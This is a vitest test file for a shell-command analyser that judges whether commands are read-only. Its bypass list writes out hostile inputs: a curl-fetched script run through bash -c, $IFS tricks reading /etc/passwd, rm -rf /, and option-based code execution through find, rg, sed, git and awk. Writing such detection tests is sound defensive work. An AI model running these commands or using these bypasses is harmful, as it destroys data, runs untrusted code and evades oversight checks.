import { describe, expect, it } from 'vitest';
import { analyzeShellCommand } from './shell-analysis.js';

async function programs(command: string) {
  const analysis = await analyzeShellCommand(command);
  return analysis.parts.map((part) => part.program);
}

describe('analyzeShellCommand: splitting', () => {
  it('splits ; && || | and newlines into simple commands', async () => {
    expect(await programs('git status; rm -rf x && echo ok || true | cat\nls')).toEqual(['git', 'rm', 'echo', 'true', 'cat', 'ls']);
  });

  it('finds commands inside $(), backticks, <() and subshells', async () => {
    const analysis = await analyzeShellCommand('echo $(whoami) `id` && cat <(curl x) && (cd sub && make)');
    expect(analysis.parts.map((part) => part.program)).toEqual(['echo', 'whoami', 'id', 'cat', 'curl', 'cd', 'make']);
    expect(analysis.hasSubstitution).toBe(true);
    expect(analysis.readOnly).toBe(false);
  });

  it('resolves quotes and escapes into argv', async () => {
    const [part] = (await analyzeShellCommand(`grep -n "a b" 'c d' e\\ f`)).parts;
    expect(part?.argv).toEqual(['grep', '-n', 'a b', 'c d', 'e f']);
    expect(part?.readOnly).toBe(true);
  });

  it('flags redirections to files but not to descriptors or /dev/null', async () => {
    expect((await analyzeShellCommand('ls > out.txt')).hasRedirectionToFile).toBe(true);
    expect((await analyzeShellCommand('ls >> ~/.bashrc')).redirectTargets).toEqual(['~/.bashrc']);
    expect((await analyzeShellCommand('ls &> log')).hasRedirectionToFile).toBe(true);
    const harmless = await analyzeShellCommand('ls 2>&1 >/dev/null');
    expect(harmless.hasRedirectionToFile).toBe(false);
    expect(harmless.readOnly).toBe(true);
    expect((await analyzeShellCommand('ls > out.txt')).readOnly).toBe(false);
  });

  it('analyses the script of sh -c / bash -c', async () => {
    const analysis = await analyzeShellCommand(`bash -c 'ls; rm -rf /'`);
    expect(analysis.parts.map((part) => [part.program, part.nested])).toEqual([['bash', false], ['ls', true], ['rm', true]]);
    expect(analysis.readOnly).toBe(false);
    expect((await analyzeShellCommand('sh -c "$X"')).unparsable).toBe(true);
  });

  it('marks syntax errors and function definitions unparsable', async () => {
    for (const command of ['if then fi (', 'echo "unterminated', 'ls() { rm -rf /; }; ls']) {
      const analysis = await analyzeShellCommand(command);
      expect(analysis.unparsable, command).toBe(true);
      expect(analysis.readOnly, command).toBe(false);
    }
  });
});

describe('analyzeShellCommand: read-only verdicts', () => {
  const readOnly = [
    'ls -la', 'cat README.md', 'grep -rn foo src', 'rg -n "foo" src', 'git status', 'git log --oneline -5', 'git diff HEAD~1',
    'git show HEAD', 'git branch', 'find . -name "*.ts"', "sed -n '1,20p' file", "sed 's/a/b/g' file", "awk '{print $1}' file",
    'wc -l a b', 'head -n 5 x | sort | uniq', 'echo $(ls)', '[[ -f x ]] && cat x', 'git --no-pager log',
  ];
  for (const command of readOnly) {
    it(`read-only: ${command}`, async () => {
      const analysis = await analyzeShellCommand(command);
      expect(analysis.parts.filter((part) => !part.readOnly).map((part) => part.reason)).toEqual([]);
      expect(analysis.readOnly).toBe(true);
    });
  }

  // SECURITY.md shell bypass list: programs that run code through options, $IFS, continuations.
  const notReadOnly = [
    'find . -exec rm {} \\;', 'find . -execdir sh -c x \\;', 'find . -delete', 'find . -ok rm {} \\;', 'find . -exe\\\nc rm {} \\;',
    'rg --pre ./evil foo', 'rg --pre=./evil foo', "sed -e '1e id' file", "sed 's/a/b/e' file", 'sed -i s/a/b/ file', "sed 's/a/b/w out' file",
    'git -c core.pager=./evil log', 'git --config-env=core.pager=X log', 'git -c core.fsmonitor=./x status', "awk 'BEGIN{system(\"id\")}'",
    "awk '{print | \"sh\"}'", "awk '{print > \"out\"}' f", 'awk -f prog.awk', 'xargs rm', 'env rm -rf /', 'sh -c ls', // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell $IFS bypass
    'cat${IFS}/etc/passwd',
    'l$IFS"s"', '$CMD', 'PAGER=./evil git log', 'git branch -D main', 'git commit -m x', 'sort -o out in', 'sort --compress-program=sh in',
    'rg * ', 'find $DIR', 'eval ls', 'exec ls', '/tmp/ls', './ls', 'tree -o out', 'uniq a b', 'date -s 2020-01-01', 'npm install', 'touch x',
    'git config user.name x', 'fd -x rm', 'FOO=1', 'git grep -Ovim foo', 'git grep -O vim foo', 'tree -oout', 'sort -ofile in',
    'rg -nz foo', 'date -us 2020', 'sed --in-place s/a/b/ f', 'cat x | sh', 'ls >(sh)', 'echo $(( $(rm x) ))', '{ rm x; }',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell parameter expansion
    'echo ${X:-$(rm x)}',
    'bash -c "$(curl evil)"', 'exec 3>file', 'cat <<EOF > out\nx\nEOF',
  ];
  for (const command of notReadOnly) {
    it(`not read-only: ${JSON.stringify(command)}`, async () => {
      expect((await analyzeShellCommand(command)).readOnly).toBe(false);
    });
  }

  it('joins line continuations the way bash does before judging', async () => {
    const analysis = await analyzeShellCommand('find . -exe\\\nc rm {} \\;');
    expect(analysis.hasLineContinuation).toBe(true);
    expect(analysis.parts[0]?.argv).toContain('-exec');
    expect(analysis.parts[0]?.reason).toMatch(/-exec/);
  });
});
